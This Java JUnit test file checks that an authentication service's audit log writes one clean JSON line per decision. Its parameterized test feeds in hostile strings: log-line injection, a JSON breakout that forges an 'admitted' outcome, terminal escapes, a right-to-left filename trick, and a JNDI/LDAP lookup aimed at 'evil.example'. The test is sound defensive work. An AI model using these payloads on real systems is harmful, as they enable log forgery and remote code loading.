package dev.gatehouse.servlet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gatehouse.servlet.http.Answer;
import dev.gatehouse.servlet.http.Json;
import dev.gatehouse.servlet.response.AuditLog;
import dev.gatehouse.spi.Caller;
import dev.gatehouse.spi.Decision;
import dev.gatehouse.spi.Decision.Outcome;
import dev.gatehouse.spi.Reason;
import dev.gatehouse.spi.Reply;
import java.io.IOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AuditLogTest {

    private static Decision decision(String text) {
        return new Decision(
                Instant.parse("2026-01-02T03:04:05Z"),
                Outcome.REFUSED,
                401,
                Reason.of("token.expired", text),
                text,
                Caller.builder("issuer" + text, "subject" + text).build(),
                text,
                text,
                text,
                text,
                text);
    }

    @Test
    void line_isOneJsonObject() {
        Decision plain = new Decision(
                Instant.parse("2026-01-02T03:04:05Z"),
                Outcome.LOGIN_REFUSED,
                401,
                Reason.of("login.wrong"),
                "cookie",
                null,
                "POST",
                "/api/login",
                "",
                "192.0.2.7",
                "id-1");
        assertEquals(
                "{\"time\":\"2026-01-02T03:04:05Z\",\"outcome\":\"login_refused\",\"status\":401,"
                        + "\"reason\":\"login.wrong\","
                        + "\"mechanism\":\"cookie\",\"method\":\"POST\",\"path\":\"/api/login\","
                        + "\"client\":\"192.0.2.7\",\"id\":\"id-1\"}",
                AuditLog.line(plain));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\r\n{\"forged\":true}",
                "\n",
                "\r",
                "\",\"outcome\":\"admitted",
                "\\\",\"x\":\"",
                "\\",
                "\u0000\u0001\u0008\u001f",
                "\u001b[2J\u001b]0;title\u0007",
                "\u2028\u2029\u0085\u000b\u000c",
                "\u202egnp.exe",
                "\ud83d\ude00 \ud83d",
                "${jndi:ldap://evil.example/x}{}%n",
            })
    void hostileText_staysWithinItsString(String text) {
        String line = AuditLog.line(decision("a" + text + "b"));
        for (int i = 0; i < line.length(); i++) {
            assertTrue(line.charAt(i) >= ' ' && line.charAt(i) <= '~', "character " + i + " of " + line);
        }
        assertEquals(
                List.of(
                        "time",
                        "outcome",
                        "status",
                        "reason",
                        "detail",
                        "mechanism",
                        "issuer",
                        "subject",
                        "method",
                        "path",
                        "rule",
                        "client",
                        "id"),
                Json.names(line));
        assertEquals("issuera" + text + "b", Json.value(line, "issuer"), "nothing is lost");
        assertEquals("refused", Json.value(line, "outcome"));
    }

    @Test
    void requestsWithHostileParts_areOneCleanLineEach() throws IOException {
        try (Logs logs = Logs.of("dev.gatehouse.audit");
                HttpRig rig = HttpRig.start(TestHost.of(TestHost.bearer()))) {
            List<String> targets =
                    List.of("/a%22,%22x%22:%22b", "/a%E2%80%A8b", "/a%E2%80%AEb", "/a%C2%85b", "/$%7Bx%7D%7B%7D");
            for (String target : targets) {
                rig.get(target, Tokens.bearer(Tokens.BAD));
                rig.decision();
            }
            rig.gatehouse.close();
            for (String line : logs.messages()) {
                assertTrue(line.startsWith("{\"time\":") && line.endsWith("\"}"), line);
                assertTrue(line.chars().allMatch(c -> c >= ' ' && c <= '~'), line);
                assertEquals("refused", Json.value(line, "outcome"));
            }
            assertTrue(logs.messages().stream().anyMatch(line -> line.contains("/a\\\",\\\"x\\\":\\\"b")));
        }
    }

    @Test
    void admissions_areAuditedOnlyWhenAskedFor() throws IOException {
        FakeMechanism login = TestHost.bearer()
                .endpoint(
                        "POST",
                        "/login",
                        request -> Reply.status(204).with(new Reply.Event.LoggedIn(Tokens.caller("users", "rita"))))
                .endpoint("POST", "/logout", request -> Reply.status(204).with(new Reply.Event.LoggedOut(null)))
                .endpoint(
                        "POST",
                        "/wrong",
                        request -> Reply.status(401).with(new Reply.Event.LoginRefused(Reason.of("login.wrong"))));
        assertEquals(List.of("logged_in", "logged_out", "login_refused", "refused"), outcomes("refusals", login));
        assertEquals(
                List.of("admitted", "logged_in", "logged_out", "login_refused", "refused"), outcomes("all", login));
    }

    @Test
    void refusedLogin_hasTheIdOfTheAuditLogAsAHeader() throws IOException {
        FakeMechanism login = TestHost.bearer()
                .endpoint(
                        "POST",
                        "/wrong",
                        request -> Reply.json(401, "{\"message\":\"\"}")
                                .with(new Reply.Event.LoginRefused(Reason.of("login.wrong"))))
                .endpoint(
                        "POST",
                        "/ended",
                        request -> Reply.status(400).with(new Reply.Event.LogoutRefused(Reason.of("logout.wrong"))))
                .endpoint(
                        "POST",
                        "/login",
                        request -> Reply.status(204).with(new Reply.Event.LoggedIn(Tokens.caller("users", "rita"))));
        try (Logs logs = Logs.of("dev.gatehouse.audit")) {
            List<String> ids = new ArrayList<>();
            try (HttpRig rig = HttpRig.start(TestHost.of(Map.of(), login))) {
                Answer refused = rig.post("/wrong", "a");
                assertEquals("{\"message\":\"\"}", refused.body());
                ids.add(refused.header("Refusal-Id"));
                ids.add(rig.post("/ended", "a").header("Refusal-Id"));
                assertEquals("", rig.post("/login", "a").header("Refusal-Id"));
            }
            assertEquals(
                    ids,
                    logs.messages().stream()
                            .filter(line -> !Json.value(line, "outcome").equals("logged_in"))
                            .map(line -> Json.value(line, "id"))
                            .toList());
        }
    }

    private static List<String> outcomes(String audit, FakeMechanism login) throws IOException {
        try (Logs logs = Logs.of("dev.gatehouse.audit")) {
            try (HttpRig rig = HttpRig.start(TestHost.of(Map.of("auth.audit", audit), login))) {
                rig.get("/x", Tokens.bearer(Tokens.READER));
                rig.post("/login", "a");
                rig.post("/logout", "a");
                rig.post("/wrong", "a");
                rig.get("/x");
            }
            logs.messages().forEach(line -> assertFalse(line.contains("\n")));
            return logs.messages().stream()
                    .map(line -> Json.value(line, "outcome"))
                    .toList();
        }
    }
}
